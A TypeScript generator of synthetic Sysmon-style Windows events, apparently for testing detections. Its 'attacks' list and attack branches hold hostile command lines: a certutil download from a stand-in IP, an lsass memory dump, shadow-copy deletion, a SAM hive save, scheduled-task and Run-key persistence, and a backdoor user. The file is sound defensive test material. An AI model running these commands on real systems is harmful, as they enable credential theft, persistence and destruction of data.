// Windows events in the shape of Sysmon's: processes, files, registry values, connections.
import { between } from "../../chance.ts";
import type { Chance } from "../../chance.ts";
import { address, guid, hex, name, pick, stamp, word } from "./made-event.ts";
import type { Maker } from "./made-event.ts";

interface Program { image: string; original: string; company: string; commands: readonly [string, ...string[]] }

const programs: readonly [Program, ...Program[]] = [
  { image: "C:\\Windows\\System32\\svchost.exe", original: "svchost.exe", company: "Microsoft Corporation", commands: ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts", "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc"] },
  { image: "C:\\Windows\\System32\\cmd.exe", original: "Cmd.Exe", company: "Microsoft Corporation", commands: ["C:\\Windows\\system32\\cmd.exe /c \"npm run NAME\"", "cmd.exe /d /s /c \"git status --porcelain\"", "C:\\Windows\\system32\\cmd.exe /c dir D:\\data\\NAME"] },
  { image: "C:\\Windows\\System32\\conhost.exe", original: "CONHOST.EXE", company: "Microsoft Corporation", commands: ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"] },
  { image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", original: "chrome.exe", company: "Google LLC", commands: ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1916,i,HEX,131072 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=NUM --mojo-platform-channel-handle=NUM /prefetch:1", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=NUM /prefetch:8"] },
  { image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", original: "PowerShell.EXE", company: "Microsoft Corporation", commands: ["powershell.exe -NoProfile -NonInteractive -ExecutionPolicy RemoteSigned -File C:\\scripts\\NAME.ps1", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" Get-Service -Name WORD*"] },
  { image: "C:\\Windows\\System32\\taskhostw.exe", original: "taskhostw.exe", company: "Microsoft Corporation", commands: ["taskhostw.exe", "taskhostw.exe SYSTEM", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"] },
  { image: "C:\\Program Files\\Git\\cmd\\git.exe", original: "git.exe", company: "The Git Development Community", commands: ["git.exe fetch --all --prune", "git.exe -c core.quotepath=false rev-parse HEAD", "git.exe log --pretty=format:%H -n NUM"] },
  { image: "C:\\Program Files\\nodejs\\node.exe", original: "node.exe", company: "Node.js", commands: ["\"C:\\Program Files\\nodejs\\node.exe\" server.js --port NUM", "node.exe C:\\apps\\NAME\\dist\\index.js"] },
  { image: "C:\\Program Files\\Java\\jdk-21\\bin\\java.exe", original: "java.exe", company: "Oracle Corporation", commands: ["java.exe -Xmx2g -jar C:\\apps\\NAME\\WORD.jar --spring.profiles.active=prod"] },
  { image: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", original: "csc.exe", company: "Microsoft Corporation", commands: ["csc.exe /noconfig /fullpaths @\"C:\\Users\\build\\AppData\\Local\\Temp\\NAME.cmdline\""] },
  { image: "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", original: "Wmiprvse.exe", company: "Microsoft Corporation", commands: ["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"] },
  { image: "C:\\Windows\\System32\\msiexec.exe", original: "msiexec.exe", company: "Microsoft Corporation", commands: ["C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe /i C:\\Windows\\ccmcache\\1a\\NAME.msi /qn"] },
  { image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", original: "Outlook.exe", company: "Microsoft Corporation", commands: ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""] },
  { image: "C:\\inetpub\\tools\\NAME.exe", original: "?", company: "?", commands: ["NAME.exe --config D:\\conf\\WORD.json --verbose"] },
];

const attacks = [
  "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
  "vssadmin.exe delete shadows /all /quiet", "reg.exe save HKLM\\SAM C:\\Temp\\sam.hiv", "schtasks.exe /create /sc minute /mo 1 /tn upd /tr C:\\Users\\Public\\a.exe", "wmic.exe process call create calc.exe", "net.exe user backdoor P@ssw0rd /add",
] as const;

const users = ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "CORP\\svc-build", "CORP\\a.miller", "CORP\\j.chen"] as const;

const filled = (chance: Chance, template: string): string => template.replace(/NAME|WORD|HEX|NUM/g, (what) => (what === "NAME" ? name(chance) : what === "WORD" ? word(chance) : what === "HEX" ? hex(chance, 16) : String(between(chance, 100, 9999))));

const head = (chance: Chance, id: number): Record<string, string | number> => ({
  EventID: id, Channel: "Microsoft-Windows-Sysmon/Operational", Provider_Name: "Microsoft-Windows-Sysmon", Computer: `srv-${between(chance, 1, 400)}.corp.example`,
  RuleName: "-", UtcTime: stamp(chance), ProcessGuid: guid(chance), ProcessId: between(chance, 300, 60_000), User: pick(chance, users),
});

/** Sysmon 1, some 30 fields. */
export const windowsProcess: Maker = (chance, isAttack) => {
  const [program, parent] = [pick(chance, programs), pick(chance, programs)];
  const command = isAttack ? pick(chance, attacks) : filled(chance, pick(chance, program.commands));
  const attackImage = `C:\\Windows\\System32\\${command.split(" ")[0] ?? ""}`;
  return {
    logsource: { category: "process_creation", product: "windows" },
    fields: {
      ...head(chance, 1), Image: isAttack ? attackImage : filled(chance, program.image), CommandLine: command, OriginalFileName: isAttack ? command.split(" ")[0] ?? "" : program.original, FileVersion: `10.0.${between(chance, 17_000, 26_000)}.1`, Description: "-", Product: "Microsoft® Windows® Operating System", Company: program.company,
      CurrentDirectory: pick(chance, ["C:\\Windows\\system32\\", "C:\\apps\\", "D:\\build\\agent\\_work\\7\\s\\"]), LogonGuid: guid(chance), LogonId: `0x${hex(chance, 5)}`, TerminalSessionId: between(chance, 0, 4), IntegrityLevel: pick(chance, ["System", "Medium", "High"]),
      Hashes: `SHA1=${hex(chance, 40)},MD5=${hex(chance, 32)},SHA256=${hex(chance, 64)},IMPHASH=${hex(chance, 32)}`.toUpperCase(), ParentProcessGuid: guid(chance), ParentProcessId: between(chance, 300, 60_000), ParentImage: filled(chance, parent.image), ParentCommandLine: filled(chance, pick(chance, parent.commands)), ParentUser: pick(chance, users),
    },
  };
};

/** Sysmon 11. */
export const windowsFile: Maker = (chance, isAttack) => ({
  logsource: { category: "file_event", product: "windows" },
  fields: { ...head(chance, 11), Image: filled(chance, pick(chance, programs).image), CreationUtcTime: stamp(chance), TargetFilename: isAttack ? pick(chance, ["C:\\Users\\Public\\evil.ps1", "C:\\Windows\\Temp\\lsass.dmp", "C:\\Users\\a.miller\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"]) : filled(chance, pick(chance, ["C:\\Users\\build\\AppData\\Local\\Temp\\NAME.tmp", "D:\\data\\WORD\\NAME.parquet", "C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\NAME.xml", "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_exNUM.log", "C:\\Windows\\Prefetch\\NODE.EXE-HEX.pf"])) },
});

/** Sysmon 13. */
export const windowsRegistry: Maker = (chance, isAttack) => ({
  logsource: { category: "registry_set", product: "windows" },
  fields: { ...head(chance, 13), EventType: "SetValue", Image: filled(chance, pick(chance, programs).image), Details: isAttack ? "C:\\Users\\Public\\a.exe" : pick(chance, ["DWORD (0x00000001)", "DWORD (0x00000000)", "Binary Data", "%SystemRoot%\\system32\\shell32.dll"]), TargetObject: isAttack ? pick(chance, ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel"]) : filled(chance, pick(chance, ["HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\HEX\\LeaseObtainedTime", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\Components\\HEX", "HKU\\.DEFAULT\\Software\\Classes\\Local Settings\\MuiCache\\NUM", "HKLM\\SOFTWARE\\Microsoft\\WindowsUpdate\\Orchestrator\\NAME"])) },
});

/** Sysmon 3. */
export const windowsNetwork: Maker = (chance, isAttack) => ({
  logsource: { category: "network_connection", product: "windows" },
  fields: { ...head(chance, 3), Image: isAttack ? "C:\\Windows\\System32\\rundll32.exe" : filled(chance, pick(chance, programs).image), Protocol: "tcp", Initiated: "true", SourceIsIpv6: "false", SourceIp: address(chance), SourceHostname: "-", SourcePort: between(chance, 1024, 65_535), SourcePortName: "-", DestinationIsIpv6: "false", DestinationIp: address(chance), DestinationHostname: isAttack ? "x.ngrok.io" : `${name(chance)}.corp.example`, DestinationPort: pick(chance, [443, 443, 443, 80, 1433, 5432, 445, 8080]), DestinationPortName: "-" },
});
